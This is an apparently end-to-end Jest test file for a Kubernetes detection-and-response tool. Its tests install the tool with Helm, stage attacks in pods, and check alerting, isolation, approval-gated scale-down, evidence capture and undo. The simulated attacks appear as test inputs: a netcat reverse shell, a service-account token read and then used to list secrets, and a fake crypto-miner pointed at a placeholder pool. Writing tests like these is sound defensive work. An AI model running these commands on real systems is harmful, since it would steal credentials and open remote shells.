/**
 * The product's promise: installed by its chart on a real cluster, what a pod does is seen and named, the pod is cut
 * off, its workload is scaled down once somebody agreed, and all of it can be taken back. The tests go on from each other.
 */
import { spawnSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, jest } from '@jest/globals'
import type { Alert } from '../contract/alert.ts'
import { needs } from '../scripts/needs.ts'
import { type Cluster, startCluster } from './cluster/cluster.ts'
import { chart, importProduct, releaseArguments } from './cluster/install.ts'
import { references } from './cluster/images.ts'
import { allObjects } from './support/all-objects.ts'
import { busyPod, secret, takeOut } from './support/captured.ts'
import { eventually } from './support/eventually.ts'
import { startMiner } from './support/miner.ts'
import { type Kept, Release } from './support/release.ts'
import { share } from './support/shared.ts'
import { Shop } from './support/shop.ts'

const test = needs('cluster', 'ebpf')
jest.setTimeout(240_000)

/** Cuts the pod off at once, asks before it scales anything. */
const policy = `
apiVersion: riposte.dev/v1alpha1
kind: ClusterResponsePolicy
metadata: { name: promise }
spec:
  mode: enforce
  match:
    rules: { names: [Reverse shell] }
    workloads: { namespaces: [shop] }
  correlate: { by: [pod], window: 1h, cooldown: 1m }
  ladder:
    - name: contain
      do: [{ label_pod: { labels: { state: quarantined } } }, isolate_pod]
      undo: { ttl: 1h }
    - name: stop
      do: [{ scale_down_deployment: { to: 0 } }]
      approve: { quorum: 1, timeout: 10m, reason: required }
      undo: { ttl: 1h }
---
apiVersion: riposte.dev/v1alpha1
kind: ClusterResponsePolicy
metadata: { name: strike }
spec:
  mode: enforce
  match: { rules: { names: [Marked program started] } }
  ladder: [{ name: kill, do: [kill_process] }]
`
const markedRule = `
- rule: Marked program started
  desc: what the kernel can decide by itself
  condition: spawned_process and proc.name = marked
  output: marked program (command=%proc.cmdline)
  priority: WARNING
`
/** Nobody is asked before evidence is taken. */
const keeping = `
apiVersion: riposte.dev/v1alpha1
kind: ClusterResponsePolicy
metadata: { name: keep }
spec:
  mode: enforce
  match:
    rules: { names: [Crypto miner started] }
    workloads: { namespaces: [vault] }
  correlate: { by: [pod], window: 1h, cooldown: 1h }
  ladder: [{ name: keep, do: [{ capture_pod: { packets: { seconds: 3 } } }] }]
`
const enabled = [
  'notify',
  'capture_pod',
  'kill_process',
  'block_network',
  'capture_snapshot',
  'freeze',
  'label_pod',
  'isolate_pod',
  'scale_down_deployment',
]
const values = {
  actions: { enabled },
  policies: {
    custom: { '60-promise.yaml': policy, '61-keep.yaml': keeping },
    resources: { keep: false },
  },
  customRules: { 'marked.yaml': markedRule },
}

let cluster: Cluster
let release: Release
let shop: Shop
let before: ReadonlySet<string>

share(['cluster', 'ebpf'], async (stack) => {
  cluster = stack.use(
    await startCluster({ say: (line) => process.stderr.write(`cluster: ${line}\n`) }),
  )
  ;[shop] = await Promise.all([Shop.open(cluster), importProduct(cluster)])
  await cluster.makeNamespace('vault')
  before = await allObjects(cluster)
  release = new Release(cluster)
})

test('helm installs it, and every pod is ready with nothing wrong', async () => {
  const release4 = ['install', 'riposte', chart, ...releaseArguments(values)]
  await cluster.helm([...release4, '--wait', '--timeout=3m'])
  const pods = await cluster.kubectl([
    'get',
    'pods',
    '-n',
    'riposte',
    '-ojsonpath={range .items[*]}{.metadata.labels.app\\.kubernetes\\.io/component} {.spec.nodeName} {.status.containerStatuses[0].restartCount}{"\\n"}{end}',
  ])
  expect(
    pods
      .trim()
      .split('\n')
      .toSorted()
      .map((line) => line.replace(/^(redis|responder) \w+/, '$1 any')),
  ).toEqual(['detector n1 0', 'detector n2 0', 'redis any 0', 'responder any 0'])
  // The detectors found the certificate, were believed by their tokens, and both said so.
  const status = await eventually(
    () => release.riposte('status').catch(String),
    (said) => /\nn1 .*\n/.test(said) && /\nn2 .*\n?/.test(said) && !said.includes('degraded'),
    60_000,
  )
  expect(status).toContain('kill switch: off')
})

const rights = async (account: string, verb: string, resource: string): Promise<boolean> => {
  const asked = [
    'auth',
    'can-i',
    verb,
    resource,
    '-A',
    `--as=system:serviceaccount:riposte:riposte-${account}`,
  ]
  return (await cluster.kubectl(asked).catch(String)).trim() === 'yes'
}

test('its accounts may do what the enabled actions need, and nothing else', async () => {
  expect(await rights('disrupt', 'patch', 'deployments.apps')).toBe(true)
  expect(await rights('contain', 'patch', 'deployments.apps')).toBe(false)
  expect(await rights('contain', 'patch', 'pods')).toBe(true)
  expect(await rights('responder', 'patch', 'pods')).toBe(false)
  for (const [verb, resource] of [
    ['get', 'secrets'],
    ['delete', 'pods'],
    ['create', 'pods'],
    ['create', 'pods/exec'],
    ['patch', 'nodes'],
    ['create', 'clusterrolebindings'],
  ] as const)
    for (const account of ['responder', 'detector', 'mark', 'contain', 'disrupt'])
      expect([account, resource, await rights(account, verb, resource)]).toEqual([
        account,
        resource,
        false,
      ])
})

test.each([
  [
    'Crypto miner started',
    'ln -s /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.example:3333',
  ],
  ['Program directory written', 'cp /bin/busybox /bin/brought'],
  ['Program that is not of the image started', '/bin/brought true'],
  [
    'Service account token read by a tool',
    'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); wget --no-check-certificate -q -O - --header "Authorization: Bearer $T" https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/shop/secrets',
  ],
])(
  '%s: the responder knows whose it was, down to the image and the labels',
  async (rule, script) => {
    const { web } = shop.pods
    await shop.attack(script)
    const { node, place } = await release.alert(
      rule,
      (alert) => alert.place?.pod?.uid === web.metadata.uid,
    )
    const status = web.status.containerStatuses?.[0]
    expect({ node, place }).toMatchObject({
      node: 'n2',
      place: {
        isPending: false,
        containerId: status?.containerID?.replace('containerd://', '').slice(0, 12),
        container: {
          name: 'main',
          image: references.busybox,
          imageDigest: status?.imageID.replace(/^.*@/, ''),
          runtime: 'containerd',
        },
        pod: {
          uid: web.metadata.uid,
          namespace: 'shop',
          name: web.metadata.name,
          serviceAccount: 'default',
          labels: { app: 'web', tier: 'front' },
        },
      },
    })
    expect(place?.pod?.owners.map(({ kind, name }) => `${kind} ${name}`).at(-1)).toBe(
      'Deployment web',
    )
  },
)

/** The node's manifest comes last. */
const isWhole = ({ files }: Kept) => files.some(({ name }) => name === 'node-manifest.json')

test('what ran in a pod, what it held open, changed and sent is kept, and proves to be whole', async () => {
  const { podIP = '' } = shop.pods.probe.status
  const busy = { name: 'busy', namespace: 'vault', ...busyPod(podIP) }
  await startMiner(cluster, await cluster.runPod(busy))
  const [kept] = await eventually(
    async () => (await release.evidence()).filter(isWhole),
    (all) => all.length > 0,
    60_000,
  )
  const step = String(kept?.stepId)
  expect(await release.riposte('evidence', 'verify', step)).toContain('as they were kept')

  const { text, bytes } = await takeOut(cluster, release, step)
  const address = Buffer.from(podIP.split('.').map(Number))
  expect(JSON.parse(await text('node-manifest.json'))).toMatchObject({ missing: [] })
  expect(await text('process-tree.json')).toContain('"name": "ping"')
  expect(await text('open-files.json')).toContain('/etc/passwd')
  expect(await text('sockets.json')).toMatch(/"state": "listen",\s*"local": "[^"]*:9999"/)
  expect(await text('environment.json')).toMatch(/"DB_PASSWORD",\s*"value": null/)
  expect(await text('environment.json')).not.toContain(secret)
  expect(await text('files.json')).toMatch(/"\/etc\/dropped",\s*"kind": "file"/)
  expect(await text('files.json')).toMatch(/"\/etc\/shadow",\s*"kind": "deleted"/)
  expect((await bytes('packets.pcap')).includes(address)).toBe(true)
})

test('a reverse shell cuts its pod off in both directions, and no neighbour', async () => {
  const { web, neighbour, probe, listener } = shop.pods
  expect(await shop.canReach(probe, web)).toBe(true)
  expect(await shop.canReach(web, neighbour)).toBe(true)

  await shop.attack(`timeout 3 nc ${listener.status.podIP} 4444 -e sh`)
  await release.alert('Reverse shell', (alert) => alert.place?.pod?.uid === web.metadata.uid)
  await eventually(
    () => shop.canReach(probe, web),
    (isReached) => !isReached,
  )

  expect(await shop.canReach(web, neighbour)).toBe(false)
  expect(await shop.canReach(web, listener)).toBe(false)
  expect(await shop.canReach(probe, neighbour)).toBe(true)
  expect(await shop.canReach(neighbour, probe)).toBe(true)
})

test('kubectl shows what is live, and takes a policy', async () => {
  const shown = (what: string) =>
    cluster.kubectl(['get', what, '--namespace=riposte', '--no-headers', '--ignore-not-found'])
  await eventually(
    () => shown('containments'),
    (text) => /isolate_pod +pod shop\/\S+ +live/.test(text),
  )
  await cluster.apply(
    JSON.stringify({
      apiVersion: 'riposte.dev/v1alpha1',
      kind: 'ResponsePolicy',
      metadata: { name: 'own', namespace: 'shop' },
      spec: {
        match: { rules: { names: ['Crypto miner started'] } },
        ladder: [{ name: 'tell', do: ['notify'] }],
      },
    }),
  )
  const states = () =>
    cluster.kubectl(['get', 'responsepolicies', '--namespace=shop', '--no-headers'])
  await eventually(states, (text) => /^own\s+(?:<none>\s+)?Audit\s/.test(text))
})

test('undo connects it again', async () => {
  const { web, neighbour, probe } = shop.pods
  const live = (await release.containments()).find(({ action }) => action === 'isolate_pod')
  await release.riposte('containments', 'undo', String(live?.id))
  await eventually(() => shop.canReach(probe, web), Boolean)
  expect(await shop.canReach(web, neighbour)).toBe(true)
})

test('its Deployment is scaled down only after somebody agreed, and undo brings it back', async () => {
  const [asked] = await release.approvals()
  expect(asked).toMatchObject({
    action: 'scale_down_deployment',
    status: 'pending',
    policy: 'promise',
  })
  expect(await shop.replicas()).toBe(1)

  await release.riposte('approvals', 'approve', String(asked?.id), '--reason=seen')
  await eventually(
    () => shop.replicas(),
    (replicas) => replicas === 0,
  )
  await shop.untilNoWebPod()

  const live = await eventually(
    () => release.containments(),
    (all) => all.some(({ action }) => action === 'scale_down_deployment'),
  )
  await release.riposte(
    'containments',
    'undo',
    String(live.find(({ action }) => action === 'scale_down_deployment')?.id),
  )
  await eventually(
    () => shop.replicas(),
    (replicas) => replicas === 1,
  )
  expect(await shop.canReach(shop.pods.probe, await shop.webPod())).toBe(true)
})

test('the audit log of the API server names the class that did it', async () => {
  const log = await readFile(cluster.auditLogPath, 'utf8')
  const doneBy = (what: string, account: string) =>
    log
      .split('\n')
      .some(
        (line) =>
          line.includes('"verb":"patch"') &&
          line.includes(what) &&
          line.includes(
            `"impersonatedUser":{"username":"system:serviceaccount:riposte:${account}"`,
          ),
      )
  expect(doneBy(`/pods/${shop.pods.web.metadata.name}`, 'riposte-mark')).toBe(true)
  expect(doneBy('/deployments/web', 'riposte-disrupt')).toBe(true)
})

test('the audit chain holds what was done, and by whom', async () => {
  const chain = await release.riposte('audit', 'verify')
  expect(chain).toMatch(/\d+ records/)
})

test('the kernel strikes in a pod from its first program on, and in no pod that is protected', async () => {
  const script = 'ln -s /bin/busybox /tmp/marked; /tmp/marked; echo $? > /tmp/ended; sleep 1000000'
  const struckIn = async (namespace: string) => {
    const command = ['sh', '-c', script]
    const pod = await cluster.runPod({ name: 'marked', namespace, node: 'n2', command })
    const isOfPod = ({ place }: Alert) => place?.pod?.uid === pod.metadata.uid
    const { strikes } = await release.alert('Marked program started', isOfPod)
    const ended = await cluster.exec(pod, 'cat', '/tmp/ended')
    return { strikes: strikes.map(({ mode }) => mode), ended: Number(ended) }
  }
  expect(await struckIn('shop')).toEqual({ strikes: ['enforce'], ended: 137 })
  // The shell says that busybox knows no such applet: it has run.
  expect(await struckIn('kube-system')).toEqual({ strikes: [], ended: 127 })
})

test('helm 3 upgrades what helm 4 installed, to enforce, without losing a pod', async () => {
  await cluster.helm3([
    'upgrade',
    'riposte',
    chart,
    ...releaseArguments({ ...values, mode: 'enforce' }),
    '--wait',
    '--timeout=3m',
  ])
  // A ConfigMap reaches the pod within a minute or so, by the kubelet's own rounds.
  await eventually(
    () => release.riposte('policies', 'list'),
    (listed) => /crypto-miner +enforce/.test(listed),
    150_000,
  )
})

const attachedPrograms = () =>
  spawnSync('bpftool', ['cgroup', 'tree', '/sys/fs/cgroup'], { encoding: 'utf8' }).stdout

test('helm uninstall leaves nothing but the folder on the nodes', async () => {
  await cluster.helm(['uninstall', 'riposte', '--namespace=riposte', '--wait', '--timeout=3m'])
  const left = await eventually(
    async () =>
      [...(await allObjects(cluster))].filter(
        (each) => !before.has(each) && each.includes(' riposte'),
      ),
    (found) => found.length === 0,
    60_000,
  )
  expect(left).toEqual([])
  for (const { folder, cgroupRoot } of cluster.nodes) {
    expect(attachedPrograms()).not.toContain(`${cgroupRoot}/`)
    expect(existsSync(join(folder, 'var/lib/riposte'))).toBe(true)
  }
})
